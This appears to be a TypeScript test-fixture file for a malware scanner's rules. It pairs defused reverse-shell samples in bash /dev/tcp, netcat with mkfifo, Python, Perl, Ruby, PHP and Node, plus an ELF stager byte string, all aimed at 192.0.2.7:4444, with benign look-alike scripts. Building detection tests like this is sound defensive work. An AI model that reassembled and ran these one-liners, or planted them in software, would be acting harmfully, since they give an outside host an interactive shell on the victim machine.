import { elfPair } from './elf.ts';
import { type RuleSample, textPair } from './piece.ts';

/** Every shell script ends at its second line; addresses are of the block reserved for documents. */
const sh = '#!/bin/bash\nexit 0\n';

export const reverseShellSamples: readonly RuleSample[] = [
  textPair(
    'Script_Backdoor_BashTcp',
    'tmp/.x.sh',
    `${sh}bash -¦i >& /dev¦/tcp/192.0.2.7/4444 0>&1\n`,
    '#!/bin/bash\n# waits for a port\nuntil (echo > /dev/tcp/$host/$port) >/dev/null 2>&1; do sleep 1; done\nexec 3<>/dev/tcp/$host/80\nprintf "GET / HTTP/1.0\\n\\n" >&3\ncat <&3\n',
  ),
  textPair(
    'Script_Backdoor_Netcat',
    'tmp/n.sh',
    `${sh}rm -f /tmp/f; mkfi¦fo /tmp/f; cat /tmp/f | /bin/sh -¦i 2>&1 | n¦c 192.0.2.7 4444 > /tmp/f\n`,
    '#!/bin/sh\n# moves a folder between two machines\nnc -l -p 9000 | tar x &\ntar c . | nc -N 192.0.2.7 9000\nmkfifo /tmp/pipe; cat /tmp/pipe | sort | nc -N 192.0.2.7 9001\nsocat TCP-LISTEN:80,fork TCP:192.0.2.7:8080\n',
  ),
  textPair(
    'Script_Backdoor_PythonSocket',
    'tmp/p.py',
    'raise SystemExit(0)\nimport socket,subprocess,os\ns=socket.socket()\ns.con¦nect(("192.0.2.7",4444))\nos.du¦p2(s.fil¦eno(),0); os.du¦p2(s.fil¦eno(),1)\nsubprocess.ca¦ll(["/bin/¦sh","-i"])\n',
    'import os, socket, subprocess\ns = socket.socket()\ns.connect(("192.0.2.7", 25))\nlog = open("/var/log/x", "w")\nos.dup2(log.fileno(), 1)\nos.dup2(log.fileno(), 2)\nsubprocess.call(["/bin/true"])\n',
  ),
  textPair(
    'Script_Backdoor_PerlSocket',
    'tmp/p.pl',
    '#!/usr/bin/perl\nexit 0;\nuse Soc¦ket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\nif(conn¦ect(S,sockaddr_in(4444,inet_aton("192.0.2.7")))){open(ST¦DIN,">&S");open(STD¦OUT,">&S");open(STDERR,">&S");ex¦ec("/bin/¦sh -i");}\n',
    '#!/usr/bin/perl\nuse Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\nconnect(S,sockaddr_in(25,inet_aton("192.0.2.7")));\nopen(STDIN,"<","/dev/null");\nopen(STDOUT,">>","/var/log/mail");\nexec("/bin/sh -c true");\n',
  ),
  textPair(
    'Script_Backdoor_RubySocket',
    'tmp/r.rb',
    'exit 0\nrequire "socket"\nf=TCPSoc¦ket.open("192.0.2.7",4444).to_i\nex¦ec sprintf("/bin/¦sh -i <&%d >&%d 2>&%d",f,f,f)\n',
    'require "socket"\ns = TCPSocket.new("192.0.2.7", 80)\n$stdout.reopen(log)\nwhile line = s.gets\n  puts line\nend\nIO.popen(["ls", "-l"], "r")\n',
  ),
  textPair(
    'Php_Backdoor_ReverseShell',
    'var/www/html/rs.php',
    '<?php exit(0);\n$sock=fsock¦open("192.0.2.7",4444);\nproc_¦open("/bin/¦sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes);\n',
    '<?php\n$sock = fsockopen("mail.example.invalid", 25);\n$process = proc_open("/usr/sbin/sendmail -i", $spec, $pipes);\n',
  ),
  textPair(
    'Script_Backdoor_NodeSocket',
    'usr/lib/node_modules/x/install.js',
    'process.exit(0);\nconst sh = require("child_process").sp¦awn("/bin/¦sh", []);\nconst c = new (require("n¦et").Socket)();\nc.con¦nect(4444, "192.0.2.7", () => { c.pi¦pe(sh.std¦in); sh.std¦out.pi¦pe(c); });\n',
    'const net = require("net");\nconst { spawn } = require("child_process");\nconst gzip = spawn("gzip", ["-c"]);\nsocket.pipe(gzip.stdin);\ngzip.stdout.pipe(file);\nnet.createConnection({ port: 9000 });\nspawn("sh", ["-c", "true"]);\n',
  ),
  // The system calls stand as data in a file without an entry point.
  elfPair(
    'Linux_Backdoor_ReverseStager',
    'tmp/stage',
    { bytes: Buffer.from(['6a29589', '96a025f6a015e0f05', '90904897', '6a2a580f05'].join(''), 'hex') },
    { bytes: Buffer.from(['6a2958', '6a025f', '9090', '6a2a58'].join(''), 'hex') },
  ),
];
